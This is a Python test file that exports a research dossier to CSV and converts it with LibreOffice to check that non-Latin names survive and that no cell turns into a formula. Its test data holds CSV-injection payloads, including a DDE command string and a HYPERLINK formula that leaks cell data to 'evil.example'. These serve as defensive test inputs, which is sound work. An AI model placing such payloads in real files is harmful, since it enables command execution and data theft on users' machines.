"""The CSV dossier opened by LibreOffice (`soffice --headless --convert-to xlsx`, UTF-8 import): Cyrillic
and Polish names survive, the byte order mark does not leak into the header, and no cell is a formula —
while the same import does turn an unprotected `=1+1` into one (so the check can see formulas)."""

from __future__ import annotations

import re
import subprocess
import zipfile
from dataclasses import replace
from pathlib import Path
from xml.etree import ElementTree

from cogs.research.export import CSV_COLUMNS, Dossier, Person, credits_of, render
from tests.domain.test_dossier_seed import contribution, seed_dossier
from tests.tools import require_program

NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
CSV_UTF8 = "CSV:44,34,76,1"  # comma-separated, double quotes, UTF-8 (76), from the first line
NAMES = [
    "Łucja Wąsowska",
    "Feliks Dzierżyński",
    "Владимир Ильич",
    "Надежда Крупская",
    "Zoë",
    "=cmd|' /C calc'!A0",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def to_xlsx(tmp_path: Path, csv_path: Path) -> dict[str, tuple[str, bool]]:
    """The cells LibreOffice makes of a CSV file: reference -> (value, whether it is a formula)."""
    soffice = require_program("soffice", package="libreoffice-calc")
    out = tmp_path / "out"
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
            "--headless",
            f"--infilter={CSV_UTF8}",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            str(csv_path),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    with zipfile.ZipFile(out / f"{csv_path.stem}.xlsx") as book:
        strings = [
            "".join(t.text or "" for t in si.iter(f"{{{NS['x']}}}t"))
            for si in ElementTree.fromstring(book.read("xl/sharedStrings.xml")).findall("x:si", NS)
        ]
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    cells = {}
    for cell in sheet.iter(f"{{{NS['x']}}}c"):
        value = cell.findtext("x:v", default="", namespaces=NS)
        if cell.get("t") == "s":
            value = strings[int(value)]
        cells[cell.get("r")] = (value, cell.find("x:f", NS) is not None)
    return cells


def column(cells: dict[str, tuple[str, bool]], name: str) -> list[str]:
    letter = chr(ord("A") + CSV_COLUMNS.index(name))
    rows = sorted(int(ref[1:]) for ref in cells if re.fullmatch(rf"{letter}\d+", ref))
    return [cells[f"{letter}{r}"][0] for r in rows[1:]]


def test_names_survive_and_no_cell_is_a_formula(tmp_path):
    entries = tuple(
        contribution(n, Person(100 + n, name), text, title=text, sources=text)
        for n, (name, text) in enumerate(zip(NAMES + NAMES[:1], FORMULAS, strict=True), 1)
    )
    # The seed after them: its hostile text, a forum author, sources on several lines, its marks.
    entries += tuple(replace(e, id=100 + e.id) for e in seed_dossier().entries)
    path = tmp_path / "1924-01-research.csv"
    path.write_text(
        render(Dossier(seed_dossier().episode, entries, credits_of(entries)), "csv")[1],
        encoding="utf-8",
        newline="",
    )
    cells = to_xlsx(tmp_path, path)

    assert [v for v, _ in (cells[f"{chr(65 + i)}1"] for i in range(len(CSV_COLUMNS)))] == list(CSV_COLUMNS)
    assert [ref for ref, (_, formula) in cells.items() if formula] == []
    names = column(cells, "author_name")
    assert names[:5] == NAMES[:5] and "Veles" in names and "Indy" in names
    assert names[5] == "'" + NAMES[5]
    for text, cell in zip(FORMULAS, column(cells, "text"), strict=False):
        assert cell.replace("\r\n", "\n") in ("'" + text, "'" + text.replace("\r", "\n")), (text, cell)
    assert column(cells, "mark")[len(FORMULAS) :][:4] == ["key", "normal", "normal", "excluded"]


def test_the_check_sees_a_formula_when_there_is_one(tmp_path):
    path = tmp_path / "unprotected.csv"
    path.write_text('\ufeff"id","text"\r\n"1","=1+1"\r\n', encoding="utf-8", newline="")
    cells = to_xlsx(tmp_path, path)
    assert cells["B2"] == ("2", True)
